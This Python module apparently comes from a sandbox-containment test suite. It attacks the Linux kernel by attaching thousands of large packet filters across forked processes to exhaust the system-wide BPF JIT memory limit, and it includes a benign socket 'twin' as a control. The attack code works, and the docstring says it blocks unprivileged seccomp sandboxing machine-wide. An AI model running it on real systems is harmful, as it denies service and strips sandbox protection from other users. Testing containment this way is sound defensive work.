"""Attach large packet filters to many sockets.

Technique: setsockopt(SO_ATTACH_FILTER). The kernel keeps the program as given, which no memory cgroup is charged for, and
    compiles it; the machine code is charged to net.core.bpf_jit_limit, a bound of the whole machine. When that is used up,
    nobody without privilege gets a seccomp filter any more, and so nobody gets a sandbox.
Success: the machine code, from what an instruction becomes, takes the memory limit.
Stopped by: seccomp
"""
import socket
import struct

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
SO_ATTACH_FILTER = 26
# As many as fit net.core.optmem_max, which was 20 KB before Linux 6.7.
INSTRUCTIONS = 2048
# A remainder is one instruction of 8 bytes and becomes some 24 bytes of machine code.
CODE_BYTES = 24 * INSTRUCTIONS
BPF_REMAINDER, BPF_RETURN = 0x94, 0x06
PROCESSES, SOCKETS = 8, 1000


def hold(ready, go_on):
    program = b"".join(struct.pack("HBBI", BPF_REMAINDER, 0, 0, 3 + number) for number in range(INSTRUCTIONS - 1))
    text = ctypes.create_string_buffer(program + struct.pack("HBBI", BPF_RETURN, 0, 0, 0xFFFF))
    option = struct.pack("H6xQ", INSTRUCTIONS, ctypes.addressof(text))
    sockets, refused = [], 0
    try:
        while len(sockets) < SOCKETS and len(sockets) * CODE_BYTES < LIMIT // PROCESSES:
            one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            one.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, option)
            sockets.append(one)
    except OSError as error:
        refused = error.errno
    os.write(ready, struct.pack("qq", len(sockets), refused))
    os.read(go_on, 1)


def attack():
    ready, go_on = os.pipe(), os.pipe()
    for _ in range(PROCESSES):
        if os.fork() == 0:
            try:
                hold(ready[1], go_on[0])
            finally:
                os._exit(0)
    counts, refusals = zip(*(struct.unpack("qq", os.read(ready[0], 16)) for _ in range(PROCESSES)))
    if sum(counts) * CODE_BYTES >= LIMIT:
        return f"{sum(counts)} filters, some {sum(counts) * CODE_BYTES >> 20} MB of machine code"
    if any(refusals):
        raise OSError(max(refusals), os.strerror(max(refusals)))


def twin():
    """Options of a socket that are for everybody."""
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        # The same number as SO_ATTACH_FILTER, at another level.
        server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        server.bind(("::", 0))
        server.listen()
        with socket.create_connection(("127.0.0.1", server.getsockname()[1])) as client:
            client.sendall(b"hello")
            assert server.accept()[0].recv(10) == b"hello"
